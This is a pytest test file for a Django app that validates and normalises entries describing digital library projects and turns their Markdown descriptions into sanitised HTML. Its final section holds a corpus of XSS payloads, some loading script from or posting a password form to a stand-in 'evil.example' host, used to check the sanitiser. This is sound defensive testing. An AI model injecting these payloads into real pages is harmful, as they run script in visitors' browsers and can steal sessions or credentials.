"""The content of a practice: how each field is normalised, how bad values are refused with a
message naming the field, and how the Markdown description becomes harmless HTML."""

import re
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError

from practices.content import (
    FIELDS,
    MAX_BODY,
    MAX_TAG,
    MAX_TAGS,
    References,
    clean_content,
    empty_content,
    latest_year,
    render_markdown,
)
from practices.services import language_codes
from practices.tests.conftest import make_content

REFS = References(
    countries=["FR", "NO", "SN"],
    libraries=["bibliotheque-nationale-de-france", "national-library-of-norway"],
    kinds=["digital-unification", "best-practice"],
    areas=["F01", "F02"],
    items=["F01.1", "F02.3"],
    languages=language_codes(),
)


def clean(**overrides) -> dict:
    return clean_content(make_content(**overrides), REFS)


def problems(**overrides) -> dict[str, list[str]]:
    """The refusal of content with these overrides, as {field: [messages]}."""
    with pytest.raises(ValidationError) as caught:
        clean(**overrides)
    return caught.value.message_dict


def only_problem(field: str, **overrides) -> str:
    """The single message about `field`, checking that no other field was blamed."""
    found = problems(**overrides)
    assert list(found) == [field], found
    return " ".join(found[field])


# Normalisation ---------------------------------------------------------------------------------


def test_valid_content_comes_back_as_a_complete_snapshot_of_every_field():
    content = clean()

    assert list(content) == list(FIELDS)
    assert content["title"] == "Gallica reunites the manuscripts of Saint-Martial"
    assert content["licence"] == ""
    assert content["material_types"] == []
    assert content["scale_items"] is None
    assert content["iiif"] is None


def test_empty_content_has_every_field_with_an_empty_value():
    content = empty_content()

    assert set(content) == set(FIELDS)
    assert content["tags"] == [] and content["institutions"] == []
    assert content["start_year"] is None and content["title"] == ""


def test_text_is_stripped_and_windows_line_ends_become_newlines():
    content = clean(title="  Lorsch  ", body="line one\r\nline two\r\n")

    assert content["title"] == "Lorsch"
    assert content["body"] == "line one\nline two"


def test_years_written_as_text_become_numbers_and_an_empty_year_is_none():
    content = clean(start_year=" 2001 ", end_year="")

    assert content["start_year"] == 2001
    assert content["end_year"] is None


def test_counts_accept_thousands_separators():
    content = clean(scale_items="1,200", scale_holders="73")

    assert content["scale_items"] == 1200
    assert content["scale_holders"] == 73


@pytest.mark.parametrize(
    ("answer", "flag"),
    [("yes", True), ("Oui", True), ("1", True), (True, True), ("no", False), ("non", False)],
)
def test_the_iiif_question_accepts_yes_and_no_in_english_and_french(answer, flag):
    assert clean(iiif=answer)["iiif"] is flag


def test_a_iiif_answer_that_is_not_yes_or_no_is_refused():
    assert "yes or no" in only_problem("iiif", iiif="maybe")


def test_country_codes_are_upper_cased_and_duplicates_dropped():
    assert clean(countries=["fr", "FR", " no "])["countries"] == ["FR", "NO"]


def test_lists_can_be_written_as_text_separated_by_semicolons_or_lines():
    content = clean(countries="fr; no", tags="maps;\nnewspapers; maps", material_types="")

    assert content["countries"] == ["FR", "NO"]
    assert content["tags"] == ["maps", "newspapers"]
    assert content["material_types"] == []


def test_an_institution_given_as_a_name_becomes_a_partner_without_library():
    content = clean(institutions=["Heidelberg University Library"])

    assert content["institutions"] == [
        {"name": "Heidelberg University Library", "library": "", "role": "partner", "country": ""}
    ]


def test_an_institution_keeps_its_registry_library_role_and_upper_cased_country():
    content = clean(
        institutions=[
            {
                "name": " BnF ",
                "library": "bibliotheque-nationale-de-france",
                "role": "lead",
                "country": "fr",
            }
        ]
    )

    assert content["institutions"] == [
        {
            "name": "BnF",
            "library": "bibliotheque-nationale-de-france",
            "role": "lead",
            "country": "FR",
        }
    ]


def test_web_addresses_given_as_text_get_empty_archive_and_label():
    content = clean(urls="https://codexsinaiticus.org")

    assert content["urls"] == [
        {"url": "https://codexsinaiticus.org", "archived_url": "", "label": ""}
    ]


def test_a_source_given_as_text_is_a_web_address_or_a_citation():
    content = clean(sources=["https://www.uni-heidelberg.de/presse", "Annual report 2012, p. 4"])

    assert content["sources"] == [
        {"citation": "", "url": "https://www.uni-heidelberg.de/presse", "last_verified": ""},
        {"citation": "Annual report 2012, p. 4", "url": "", "last_verified": ""},
    ]


def test_a_source_keeps_the_date_it_was_last_verified():
    content = clean(sources=[{"citation": "Report", "last_verified": "2026-01-31"}])

    assert content["sources"][0]["last_verified"] == "2026-01-31"


# Refusals, each naming its field ---------------------------------------------------------------


@pytest.mark.parametrize("field", ["title", "summary", "language", "kind"])
def test_a_missing_required_field_is_refused(field):
    assert "required" in only_problem(field, **{field: ""})


def test_a_description_over_200000_characters_is_refused_with_its_length():
    message = only_problem("body", body="x" * (MAX_BODY + 1))

    assert "200000" in message and "200001" in message


def test_a_description_of_exactly_200000_characters_is_accepted():
    assert len(clean(body="x" * MAX_BODY)["body"]) == MAX_BODY


def test_a_title_over_300_characters_is_refused():
    assert "300" in only_problem("title", title="t" * 301)


def test_31_tags_are_refused_30_accepted():
    tags = [f"tag {n}" for n in range(MAX_TAGS + 1)]

    assert "31" in only_problem("tags", tags=tags)
    assert len(clean(tags=tags[:MAX_TAGS])["tags"]) == MAX_TAGS


def test_a_tag_over_60_characters_is_refused_and_quoted():
    long_tag = "a" * (MAX_TAG + 1)

    assert long_tag in only_problem("tags", tags=["maps", long_tag])
    assert clean(tags=["a" * MAX_TAG])["tags"] == ["a" * MAX_TAG]


def test_an_end_year_before_the_start_year_is_refused():
    assert "before the start year" in only_problem("end_year", start_year=2010, end_year=2009)


@pytest.mark.parametrize("year", [999, "latest+1", "20x0", "-2000", 2010.5])
@pytest.mark.parametrize("field", ["start_year", "end_year"])
def test_a_year_out_of_range_or_not_a_year_is_refused(field, year):
    if year == "latest+1":
        year = latest_year() + 1
    other = {"end_year": None} if field == "start_year" else {"start_year": None}

    assert "A year between 1000 and" in only_problem(field, **{field: year}, **other)


def test_next_year_is_accepted_for_a_planned_project():
    assert clean(start_year=latest_year(), end_year=None)["start_year"] == latest_year()


def test_an_unknown_country_is_refused_and_named():
    assert "XX" in only_problem("countries", countries=["FR", "XX"])


def test_an_unknown_registry_library_of_an_institution_is_refused():
    message = only_problem("institutions", institutions=[{"name": "X", "library": "nowhere"}])

    assert "nowhere" in message


def test_an_unknown_country_of_an_institution_is_refused():
    message = only_problem("institutions", institutions=[{"name": "X", "country": "QQ"}])

    assert "QQ" in message


def test_an_institution_without_a_name_is_refused():
    assert "name" in only_problem("institutions", institutions=[{"role": "lead"}])


def test_an_unknown_institution_role_is_refused_with_the_roles_allowed():
    message = only_problem("institutions", institutions=[{"name": "X", "role": "sponsor"}])

    assert "sponsor" in message and "lead" in message and "funder" in message


def test_an_unknown_kind_is_refused():
    assert "recipe" in only_problem("kind", kind="recipe")


@pytest.mark.parametrize(("field", "code"), [("areas", "F99"), ("items", "F01.9")])
def test_an_unknown_function_area_or_item_is_refused(field, code):
    assert code in only_problem(field, **{field: [code]})


def test_an_unknown_language_code_is_refused():
    assert "xx" in only_problem("language", language="xx")


def test_an_unknown_project_status_is_refused_with_the_statuses_allowed():
    message = only_problem("project_status", project_status="abandoned")

    assert "abandoned" in message and "completed" in message


@pytest.mark.parametrize(
    "bad",
    ["not a url", "www.example.org", "javascript:alert(1)", "ftp://example.org/x", "https://"],
)
def test_a_malformed_web_address_is_refused(bad):
    assert bad in only_problem("urls", urls=[{"url": bad}])


def test_a_malformed_archived_address_is_refused_and_named():
    message = only_problem(
        "urls", urls=[{"url": "https://example.org", "archived_url": "archive.org/x"}]
    )

    assert "archived_url" in message and "archive.org/x" in message


@pytest.mark.parametrize("bad", ["htp://example.org", "javascript:alert(1)", "data:text/html,x"])
def test_a_malformed_source_address_is_refused(bad):
    assert bad in only_problem("sources", sources=[{"citation": "Report", "url": bad}])


def test_a_source_without_citation_or_address_is_refused():
    assert "citation" in only_problem("sources", sources=[{"last_verified": "2025-01-01"}])


@pytest.mark.parametrize("bad", ["31/01/2026", "2026-02-30", "yesterday"])
def test_a_bad_last_verified_date_is_refused(bad):
    message = only_problem("sources", sources=[{"citation": "Report", "last_verified": bad}])

    assert "last_verified" in message and bad in message


def test_more_than_200_entries_in_a_list_are_refused():
    assert "200" in only_problem("material_types", material_types=[f"m{n}" for n in range(201)])


def test_more_than_200_entries_written_as_text_are_refused_too():
    text = ";".join(f"m{n}" for n in range(201))

    assert "200" in only_problem("material_types", material_types=text)


def test_unknown_fields_are_refused_and_named():
    found = problems(colour="red", abstract="x")

    assert list(found) == ["__all__"]
    assert "abstract, colour" in found["__all__"][0]


def test_every_problem_is_reported_at_once():
    found = problems(
        title="",
        body="x" * (MAX_BODY + 1),
        kind="recipe",
        language="xx",
        countries=["XX"],
        start_year=2010,
        end_year=2001,
        tags=["t" * 61],
        urls=["nope"],
        sources=[{"citation": "c", "last_verified": "soon"}],
        institutions=[{"name": "X", "role": "sponsor"}],
        iiif="perhaps",
        areas=["F99"],
        colour="red",
    )

    assert set(found) == {
        "__all__",
        "title",
        "body",
        "kind",
        "language",
        "countries",
        "end_year",
        "tags",
        "urls",
        "sources",
        "institutions",
        "iiif",
        "areas",
    }


# Markdown to safe HTML -------------------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">click</p>',
    '<a href="#" ONMOUSEOVER="alert(1)">hover</a>',
    '<abbr title="x" onMouseOver="alert(1)">a</abbr>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body { display: none }</style>",
    '<p style="background: url(javascript:alert(1))">styled</p>',
    '<strong style="color:red">red</strong>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="password"><button>go</button></form>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div><a href="https://ok.example" onfocus="alert(1)" autofocus>ok</a></div>',
    "<!--<script>alert(1)</script>-->",
    "```\n<script>alert(1)</script>\n```",
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
]
FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "img",
    "svg",
    "math",
    "meta",
    "link",
    "base",
    "video",
    "source",
    "body",
    "details",
}


class Tags(HTMLParser):
    """Every start tag of a piece of HTML with its attributes, as a browser would read them."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")


def browser_url(value: str | None) -> str:
    """The address as a browser's URL parser reads it: leading and trailing controls and spaces
    dropped, tabs and line breaks removed anywhere (so "jav&#x09;ascript:" is "javascript:")."""
    text = (value or "").strip("".join(map(chr, range(33))))
    return re.sub(r"[\t\n\r]", "", text).lower()


def assert_harmless(html: str) -> None:
    assert "<script" not in html.lower()
    for tag, attrs in Tags(html).tags:
        assert tag not in FORBIDDEN_TAGS, html
        for name, value in attrs.items():
            assert not name.startswith("on"), html
            assert name not in ("style", "src", "srcdoc", "background", "target"), html
            if name == "href":
                assert not browser_url(value).startswith(DANGEROUS_SCHEMES), html


def test_the_xss_corpus_is_large_enough():
    assert len(XSS) >= 25


@pytest.mark.parametrize(
    "unsafe",
    [
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href=" JAVA\nSCRIPT:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<p onclick="x">x</p>',
        '<b style="color:red">x</b>',
        "<script>x</script>",
        "<iframe></iframe>",
    ],
)
def test_the_harmlessness_check_itself_catches_unsafe_html(unsafe):
    with pytest.raises(AssertionError):
        assert_harmless(unsafe)


@pytest.mark.parametrize("payload", XSS)
def test_dangerous_markup_in_a_description_is_made_harmless(payload):
    assert_harmless(render_markdown(payload))
    assert_harmless(render_markdown(f"Some text before.\n\n{payload}\n\nAnd after."))


@pytest.mark.parametrize("payload", XSS)
def test_dangerous_markup_inside_markdown_blocks_is_made_harmless(payload):
    assert_harmless(render_markdown(f"- item {payload}\n\n> quoted {payload}\n\n## {payload}"))


def test_event_handlers_are_removed_in_every_case_variation():
    for name in ("onclick", "ONCLICK", "OnClick", "oNcLiCk", "onmouseover", "OnFocus"):
        html = render_markdown(f'<a href="https://ok.example" {name}="alert(1)">x</a>')
        assert_harmless(html)
        assert 'href="https://ok.example"' in html


def test_links_get_nofollow_so_contributed_links_do_not_pass_ranking():
    html = render_markdown("[BnF](https://www.bnf.fr)")

    assert Tags(html).tags == [
        ("p", {}),
        ("a", {"href": "https://www.bnf.fr", "rel": "nofollow noopener ugc"}),
    ]


def test_ordinary_markdown_survives():
    text = "\n".join(
        [
            "## Goals",
            "",
            "### Partners",
            "",
            "Some *emphasis*, **strong** text and `inline code`.",
            "",
            "- first",
            "- second",
            "",
            "1. one",
            "2. two",
            "",
            "> a quotation",
            "",
            "See [Gallica](https://gallica.bnf.fr/) or <https://www.bnf.fr>, "
            "or write to <mailto:contact@example.org>, or read [the list](/en/practices/).",
            "",
            "| Holder | Leaves |",
            "|--------|--------|",
            "| Leipzig | 43 |",
            "",
            "```",
            "print('hello')",
            "```",
        ]
    )
    html = render_markdown(text)
    tags = [tag for tag, _attrs in Tags(html).tags]
    hrefs = [attrs["href"] for tag, attrs in Tags(html).tags if tag == "a"]

    for tag in ("h2", "h3", "em", "strong", "code", "ul", "ol", "li", "blockquote"):
        assert tag in tags
    for tag in ("table", "thead", "tbody", "tr", "th", "td", "pre"):
        assert tag in tags
    assert hrefs == [
        "https://gallica.bnf.fr/",
        "https://www.bnf.fr",
        "mailto:contact@example.org",
        "/en/practices/",
    ]
    assert "print(&#x27;hello&#x27;)" in html or "print('hello')" in html


def test_text_that_looks_like_code_is_shown_not_run():
    html = render_markdown("Use `<script>` with care: 1 < 2 & 3 > 2.")

    assert "<code>&lt;script&gt;</code>" in html
    assert "1 &lt; 2 &amp; 3 &gt; 2" in html


def test_an_empty_description_renders_as_nothing():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""
